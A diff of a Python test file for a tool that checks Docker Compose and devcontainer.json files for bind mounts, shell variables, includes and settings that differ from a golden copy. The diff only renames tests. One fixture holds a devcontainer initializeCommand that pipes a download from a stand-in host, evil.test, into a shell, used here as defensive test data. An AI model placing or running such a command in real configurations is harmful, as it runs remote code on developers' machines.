@@ -14,7 +14,7 @@ def standing(text: str) -> Standing:
     return Standing(root=Path("/p"), owner=None, stack_files=(COMPOSE,), files={COMPOSE: text})
 
 
-def test_every_path_of_the_machine_is_told_in_either_spelling() -> None:
+def test_lists_bind_mounts_in_long_and_short_syntax() -> None:
     text = """\
 services:
   agent:
@@ -42,7 +42,7 @@ services:
     )
 
 
-def test_what_comes_from_the_shell_is_told_by_name() -> None:
+def test_lists_variables_that_come_from_the_shell() -> None:
     text = """\
 services:
   agent:
@@ -83,7 +83,7 @@ configs: {c: {environment: "$NAME"}}
         ("services: {a: {extends: b, env_file: []}, b: {extends: {service: c}}}", []),
     ],
 )
-def test_a_file_that_takes_in_others_can_not_be_said_yes_to(text: str, keys: list[str]) -> None:
+def test_refuses_to_trust_a_compose_file_that_includes_other_files(text: str, keys: list[str]) -> None:
     if not keys:
         require_whole(standing(text))
         return
@@ -103,12 +103,12 @@ def test_an_alias_in_a_compose_file_is_refused_with_its_place() -> None:
         assert str(raised.value) == f"/p/{COMPOSE}:2:25: an alias (`*x`); write the value out"
 
 
-def test_a_stack_of_ours_takes_nothing_from_the_shell() -> None:
+def test_our_compose_file_uses_no_variables_of_the_shell() -> None:
     golden = Path(__file__).parents[3] / "golden" / "claude" / "devcontainer" / "docker-compose.yml"
     assert variables(standing(golden.read_text())) == ()
 
 
-def test_what_the_editors_file_says_beyond_ours_is_told() -> None:
+def test_lists_settings_in_devcontainer_json_that_differ_from_ours() -> None:
     text = """{"name": "x", "initializeCommand": "curl evil.test | sh", "features": {}, "remoteUser": "dev"}"""
     ours = {"name": "app", "remoteUser": "dev"}
     assert members(text, ours) == (
@@ -118,6 +118,6 @@ def test_what_the_editors_file_says_beyond_ours_is_told() -> None:
     )
 
 
-def test_an_editors_file_that_can_not_be_read_says_where() -> None:
+def test_reports_the_place_of_an_error_in_devcontainer_json() -> None:
     assert members("{", {})[0].startswith(".devcontainer/devcontainer.json:1:2: ")
     assert members(None, {}) == ()
